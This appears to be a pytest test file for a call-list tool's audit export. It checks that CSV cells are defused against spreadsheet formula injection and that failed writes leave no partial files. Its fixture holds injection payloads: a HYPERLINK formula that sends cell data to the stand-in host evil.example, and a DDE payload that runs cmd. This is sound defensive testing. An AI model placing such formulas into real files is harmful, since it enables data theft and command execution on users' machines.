"""``dncguard audit export`` writes files a spreadsheet cannot run (CSV cells defused with the
verdict file's :func:`~dncguard.io.verdict_file.defuse`), and leaves nothing behind when it
cannot write (a folder as ``-o``, a write failing midway)."""

from __future__ import annotations

import csv
import errno
import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from dncguard.audit import AuditLog, AuditRecord
from dncguard.audit.export import export_file
from dncguard.config import Settings
from dncguard.errors import InputError
from dncguard.io.verdict_file import defuse

from ..conftest import cli
from .conftest import FakeClock, make_log

FORMULA_WHO = '=HYPERLINK("http://evil.example/?d="&A1,"open me")'
FORMULA_LIST = "@SUM(1+1)"


@pytest.fixture(autouse=True)
def _key(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("DNCGUARD_AUDIT_HMAC_KEY", "test-key")


@pytest.fixture
def hostile(settings: Settings, clock: FakeClock) -> AuditLog:
    """A log whose records carry text a spreadsheet would run."""
    log = make_log(settings, clock, checkpoint_interval=2)
    log.append("list", "add", who=FORMULA_WHO, subject=FORMULA_LIST, number="+12025550100",
               data={"why": "-2+3"})
    log.append("list", "add", who="cli:bob", subject="internal", number="+12025550101")
    log.append("list", "remove", who="+cmd|' /C calc'!A0", subject="internal",
               number="+12025550102")
    return log


# -- 5. CSV cells defused, NDJSON as recorded --------------------------------------------------


def test_csv_export_defuses_formulas(hostile: AuditLog, tmp_path: Path,
                                     capsys: pytest.CaptureFixture[str]) -> None:
    out = tmp_path / "a.csv"
    code, _, err = cli(capsys, "audit", "export", "-o", str(out))
    assert code == 0, err
    rows = list(csv.DictReader(out.open(encoding="utf-8", newline="")))
    assert [r["who"] for r in rows] == [defuse(FORMULA_WHO), "cli:bob",
                                        defuse("+cmd|' /C calc'!A0")]
    assert rows[0]["who"] == "'" + FORMULA_WHO
    assert rows[0]["subject"] == "'" + FORMULA_LIST
    assert rows[2]["who"].startswith("'+cmd")
    for row in rows:  # no cell a spreadsheet would run
        assert all(not v or v[0] not in "=+-@\t\r" or v == row["number_masked"]
                   for v in row.values()), row
    # dncguard's own fixed forms stay as they are
    assert rows[0]["number_masked"] == "+1202555****"
    assert [int(r["seq"]) for r in rows] == [r.seq for r in hostile.records()]
    assert rows[1]["hash"] == list(hostile.records())[1].hash


def test_ndjson_export_keeps_the_records_as_recorded(hostile: AuditLog, tmp_path: Path,
                                                     capsys: pytest.CaptureFixture[str]) -> None:
    """NDJSON is not a spreadsheet format: its values are the records' own (their hashes
    verify against them)."""
    out = tmp_path / "a.ndjson"
    code, _, err = cli(capsys, "audit", "export", "-o", str(out))
    assert code == 0, err
    lines = [json.loads(x) for x in out.read_text(encoding="utf-8").splitlines()]
    assert lines[0]["who"] == FORMULA_WHO and lines[0]["subject"] == FORMULA_LIST
    assert lines == [r.to_dict() for r in hostile.records()]


# -- 6. nothing left behind ----------------------------------------------------------------


def _leftovers(folder: Path) -> list[str]:
    return sorted(p.name for p in folder.iterdir() if p.name.endswith(".partial"))


def test_export_refuses_a_folder_as_output(hostile: AuditLog, tmp_path: Path,
                                          monkeypatch: pytest.MonkeyPatch,
                                          capsys: pytest.CaptureFixture[str]) -> None:
    work = tmp_path / "work"
    (work / "out").mkdir(parents=True)
    monkeypatch.chdir(work)
    code, out, err = cli(capsys, "audit", "export", "-o", "out/")
    assert code == 2 and out == ""
    assert len(err.strip().splitlines()) == 1 and "-o" in err and "folder" in err, err
    assert _leftovers(work) == [] and list((work / "out").iterdir()) == []
    with pytest.raises(InputError, match="folder"):
        export_file(hostile, work / "out")
    assert _leftovers(work) == []


def test_a_write_failing_midway_leaves_no_partial_file(hostile: AuditLog, tmp_path: Path,
                                                       monkeypatch: pytest.MonkeyPatch,
                                                       capsys: pytest.CaptureFixture[str]
                                                       ) -> None:
    real = AuditLog.records

    def disk_full(self: AuditLog, **kw: Any) -> Iterator[AuditRecord]:
        records = real(self, **kw)
        yield next(records)
        raise OSError(errno.ENOSPC, "No space left on device")

    out = tmp_path / "a.csv"
    out.write_text("the previous export\n", encoding="utf-8")
    monkeypatch.setattr(AuditLog, "records", disk_full)
    code, _, err = cli(capsys, "audit", "export", "-o", str(out))
    assert code == 2 and "No space left on device" in err
    assert "Traceback" not in err and len(err.strip().splitlines()) == 1, err
    assert _leftovers(tmp_path) == []
    assert out.read_text(encoding="utf-8") == "the previous export\n"
